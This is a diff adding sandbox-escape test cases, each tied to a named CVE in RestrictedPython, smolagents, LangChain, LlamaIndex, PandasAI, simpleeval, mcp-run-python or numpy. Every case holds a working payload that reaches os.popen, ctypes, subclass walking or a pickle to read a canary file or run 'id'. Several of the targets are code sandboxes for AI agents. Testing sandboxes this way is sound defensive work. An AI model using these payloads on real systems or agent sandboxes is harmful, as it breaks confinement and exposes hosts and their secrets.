@@ -94,12 +94,62 @@ f = sys._getframe()
 while f.f_back: f = f.f_back
 result = f.f_globals.get('secret')
 """)
-reach("gc over every object for the secret", """
-import gc
-result = None
-needle = 'ape' + '-canary-' + 'secret-of-the-host'
-for o in gc.get_objects():
-    if isinstance(o, dict):
-        for v in list(o.values()):
-            if isinstance(v, str) and needle in v and v != CANARY and len(v) < 200: result = 'found ' + v
-""") if False else None
+# In these words, or close to them, sandboxes that filter the language were opened.
+reach("RestrictedPython CVE-2023-37271: a frame by a generator", """
+def g(): yield g.gi_frame.f_back.f_back
+g = g()
+frame = [x for x in g][0]
+result = frame.f_builtins['open'](CANARY).read()
+""")
+reach("RestrictedPython CVE-2023-41039: attributes by format_map", """
+import os
+class Home: pass
+Home.__init__.__globals__ if hasattr(Home.__init__, '__globals__') else None
+result = '{x.__init__.__globals__[os].environ}'.format_map({'x': os._wrap_close})
+result = result if 'secret-of-the-host' in result else None
+""")
+reach("RestrictedPython CVE-2024-47532: modules by the string module", """
+import string
+formatter = string.Formatter()
+module = formatter.get_field('a._re', (), {'a': string})[0]
+result = module.enum.sys.modules['os'].popen('cat ' + CANARY).read()
+""")
+reach("RestrictedPython CVE-2025-22153: try and except*", """
+try:
+    raise ExceptionGroup('', [AttributeError(name='x', obj=__import__('os'))])
+except* AttributeError as group:
+    result = group.exceptions[0].obj.popen('cat ' + CANARY).read()
+""")
+reach("smolagents CVE-2025-5120: os by a module that is allowed", """
+import random
+result = random._os.popen('cat ' + CANARY).read()
+""")
+reach("smolagents CVE-2025-9959: dunders by a string", """
+k = [c for c in getattr((), '__cla' + 'ss__').__base__.__subclasses__() if c.__name__ == 'Popen']
+import subprocess
+result = subprocess.Popen(['cat', CANARY], stdout=-1).communicate()[0]
+""")
+reach("LangChain CVE-2023-44467: __import__ spelled out", "result = __import__('os').popen('id').read()")
+reach("LlamaIndex CVE-2024-3098: code in an f-string", """
+result = f"{[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'BuiltinImporter'][0]().load_module('posix').system('id')}"
+result = result if result == '0' else None
+""")
+reach("PandasAI CVE-2024-12366: os by pandas", "import pandas; result = pandas.io.common.os.popen('id').read()")
+reach("simpleeval GHSA: a module behind a function", """
+import statistics
+result = statistics.sys.modules['os'].popen('cat ' + CANARY).read()
+""")
+reach("mcp-run-python CVE-2026-25905: the host behind ctypes", """
+import ctypes
+buffer = ctypes.create_string_buffer(64)
+libc = ctypes.CDLL(None)
+fd = libc.open(CANARY.encode(), 0)
+result = buffer.value if fd >= 0 and libc.read(fd, buffer, 64) > 0 else None
+""")
+reach("numpy CVE-2019-6446: pickles in a file of arrays", """
+import io, numpy, os
+class P:
+    def __reduce__(self): return (open, (CANARY,))
+b = io.BytesIO(); numpy.savez(b, x=numpy.array([P()], dtype=object)); b.seek(0)
+result = numpy.load(b, allow_pickle=True)['x'][0].read()
+""")
